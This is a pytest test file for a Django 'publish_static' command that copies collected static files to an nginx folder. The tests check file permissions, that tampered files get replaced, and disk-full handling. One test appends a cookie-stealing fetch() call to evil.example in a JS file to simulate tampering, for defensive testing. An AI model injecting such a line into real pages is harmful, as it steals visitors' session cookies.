"""publish_static: the image's collected files copied into the public folder nginx serves, which
every version shares (the entrypoint runs it at each start; see the command's docstring)."""

import errno
import os
import shutil

import pytest
from django.core.management import CommandError, call_command


@pytest.fixture
def collected(tmp_path, settings):
    """collectstatic into a folder of the test's own, as the Dockerfile does into /app/collected."""
    settings.STATIC_ROOT = tmp_path / "collected"
    call_command("collectstatic", "--noinput", verbosity=0)
    return settings.STATIC_ROOT


@pytest.fixture
def public(tmp_path):
    folder = tmp_path / "public"
    folder.mkdir()
    return folder


def publish(folder):
    call_command("publish_static", str(folder), verbosity=0)


def contents(folder):
    return {
        path.relative_to(folder).as_posix(): path.read_bytes() for path in folder.rglob("*") if path.is_file()
    }


def test_every_collected_file_but_the_manifest_is_published_readable_by_nginx(collected, public):
    publish(public)
    expected = contents(collected)
    del expected["staticfiles.json"]  # the image's own: nginx has no use for it
    assert contents(public) == expected
    assert {path.stat().st_mode & 0o777 for path in public.rglob("*") if path.is_file()} == {0o644}


def test_files_in_place_are_left_alone_and_older_versions_files_stay(collected, public):
    publish(public)
    hashed = next(public.glob("site/css/site.*.css"))
    before = hashed.stat()
    unhashed = public / "site/css/site.css"
    unhashed.write_text("an older version's")
    older = public / "site/css/site.0123456789ab.css"  # a file of a version that ran before
    older.write_text("still linked from pages in browsers")
    publish(public)
    after = hashed.stat()
    assert (after.st_ino, after.st_mtime_ns) == (before.st_ino, before.st_mtime_ns)  # not even rewritten
    assert unhashed.read_bytes() == (collected / "site/css/site.css").read_bytes()
    assert older.read_text() == "still linked from pages in browsers"


def test_a_tampered_file_is_replaced_by_the_images_copy_and_logged(collected, public, capsys):
    publish(public)
    theme = next(public.glob("admin/js/theme.*.js"))
    name = theme.relative_to(public).as_posix()
    theme.write_bytes(theme.read_bytes() + b"\nfetch('https://evil.example/?' + document.cookie);\n")
    link = next(public.glob("site/css/site.*.css"))
    link.unlink()
    link.symlink_to(theme)  # a symlink where a file belongs: nginx refuses it, so the page breaks
    loose = next(public.glob("admin/css/base.*.css"))
    loose.chmod(0o666)  # same bytes, but anyone on the host could rewrite it later
    call_command("publish_static", str(public))
    for path in (theme, link, loose):
        relative = path.relative_to(public).as_posix()
        assert not path.is_symlink() and (path.stat().st_mode & 0o777) == 0o644, relative
        assert path.read_bytes() == (collected / relative).read_bytes(), relative
    out, err = capsys.readouterr()
    assert f"static files: replaced {name}: it differed from this image's copy" in err.splitlines()
    assert "(3 replaced)" in out


def test_a_folder_another_account_could_write_into_is_closed(collected, public):
    publish(public)
    (public / "admin").chmod(0o777)
    publish(public)
    assert ((public / "admin").stat().st_mode & 0o777) == 0o755


def test_a_full_disk_stops_with_one_line_no_partial_file_and_unhashed_names_untouched(
    collected, public, monkeypatch
):
    (public / "site/css").mkdir(parents=True)
    (public / "site/css/site.css").write_text("the serving version's")
    copied, copy = [], shutil.copyfileobj

    def disk_fills_up(source, target, *args):
        if len(copied) == 3:
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        copied.append(source)
        return copy(source, target, *args)

    monkeypatch.setattr("app.management.commands.publish_static.shutil.copyfileobj", disk_fills_up)
    with pytest.raises(
        CommandError, match=r"^cannot publish static files to \S+: No space left on device \(\S+\)$"
    ):
        publish(public)
    assert [path for path in public.rglob(".*")] == []  # the temporary file of the failed copy is gone
    assert (public / "site/css/site.css").read_text() == "the serving version's"  # hashed files go first


@pytest.mark.skipif(os.geteuid() != 0, reason="giving a folder to another uid needs root")
def test_a_folder_of_another_account_stops_publishing_with_the_fix(collected, public):
    publish(public)
    os.chown(public / "admin", 33, 33)  # e.g. www-data's, from before the site had an account
    with pytest.raises(
        CommandError, match=r"admin belongs to uid 33, not this user \(on the host: sudo chown -R"
    ):
        publish(public)
